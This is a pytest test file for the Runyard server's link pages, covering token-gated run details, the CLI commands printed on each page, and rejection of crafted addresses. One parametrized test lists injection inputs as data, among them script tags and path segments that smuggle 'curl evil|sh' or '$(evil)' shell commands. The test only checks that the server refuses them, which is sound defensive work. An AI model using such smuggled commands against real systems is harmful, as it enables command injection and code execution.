"""The pages behind printed links: what they tell to whom."""

from html.parser import HTMLParser
from types import SimpleNamespace

import pytest

from runyard.protocol.runs import StartRun
from runyard_server.core.settings import Settings
from runyard_server.core.tokens import user_token
from runyard_server.faces import limits
from runyard_server.faces.application import create_app
from runyard_server.faces.pages.face import PagesFace
from runyard_server.operations import runs
from runyard_server.testing import asking, parts
from runyard_server.testing.clocks import TickingClock


def text_of(answer) -> str:
    """What a browser shows of a page."""
    pieces: list[str] = []
    parser = HTMLParser()
    parser.handle_data = pieces.append
    parser.feed(answer.body.decode())
    return "\n".join(pieces)


@pytest.fixture
def system(tmp_path):
    """The parts of a service."""
    with parts.parts(tmp_path / "home", TickingClock()) as made:
        yield made


@pytest.fixture
def ask(system):
    """Asks a service whose studio was not built."""
    app, _ = create_app(system, limits.of(Settings(), 1024), [PagesFace()])
    token = f"Bearer {user_token(system.secret)}"

    def act(method, path, Authorization=token):  # noqa: N803 - a header
        answer = asking.ask(app, method, path, headers={"authorization": Authorization})
        told = {name.title(): value for name, value in answer.headers.items()}
        return SimpleNamespace(status=answer.status, headers=told, body=answer.body)

    return act


@pytest.fixture
def run(system) -> str:
    """A run of the experiment `secret-plan`."""
    return runs.start(system, "default", body=StartRun("secret-plan")).id


def test_a_page_without_a_token_shows_no_more_than_its_address(ask, run):
    """The command to type is there, the run's data are not, nor whether there is such a run."""
    page = ask("GET", f"/runs/default/{run}", Authorization="")
    assert page.status == 200
    assert f"runyard runs show {run}" in text_of(page)
    assert "secret-plan" not in text_of(page)
    other = ask("GET", "/runs/default/none-of-ours", Authorization="")
    assert other.status == 200
    assert page.body.replace(run.encode(), b"none-of-ours") == other.body


def test_a_page_with_a_token_says_how_the_run_is(ask, run):
    """Experiment and status; a wrong token gets nothing."""
    text = text_of(ask("GET", f"/runs/default/{run}"))
    assert "secret-plan" in text
    assert "Running" in text
    refused = ask("GET", f"/runs/default/{run}", Authorization="Bearer wrong")
    assert refused.status == 401
    assert b"secret-plan" not in refused.body
    assert ask("GET", "/runs/default/none-of-ours").status == 404


def test_the_command_names_the_workspace(ask):
    """Only where it is not the default one, which needs no option."""
    page = ask("GET", "/runs/team-a/r1", Authorization="")
    assert "runyard runs show r1 --workspace team-a" in text_of(page)
    assert "--workspace" not in text_of(ask("GET", "/runs/default/r1", Authorization=""))
    page = ask("GET", "/workspaces/team-a/experiments/e1", Authorization="")
    assert "runyard runs list -e e1 --workspace team-a" in text_of(page)


@pytest.mark.parametrize(
    "path",
    [
        "/runs/default/%3Cscript%3E",
        "/runs/%3Cscript%3E/r1",
        "/runs/default/r1;curl%20evil|sh",
        "/runs/default/r1%0Acurl%20evil",
        "/runs/default/--help",
        "/workspaces/default/experiments/%24(evil)",
    ],
)
def test_no_address_makes_a_page_with_a_harmful_command(ask, path):
    """A link that somebody sends shows no markup and nothing that a shell would run."""
    page = ask("GET", path, Authorization="")
    assert page.status == 404
    assert b"<script" not in page.body
    assert b"evil" not in page.body
    assert "default-src 'none'" in page.headers["Content-Security-Policy"]


def test_a_link_into_a_studio_that_was_not_built_says_how_to_build_it(ask):
    """What `runyard studio` prints is no dead link in a checkout without pages."""
    text = text_of(ask("GET", "/enter", Authorization=""))
    assert "make studio" in text


def test_the_front_page_and_the_printed_link_to_the_documentation_are_there(ask):
    """They explain themselves without a token."""
    for path in ("/", "/docs"):
        assert b"Runyard" in ask("GET", path, Authorization="").body
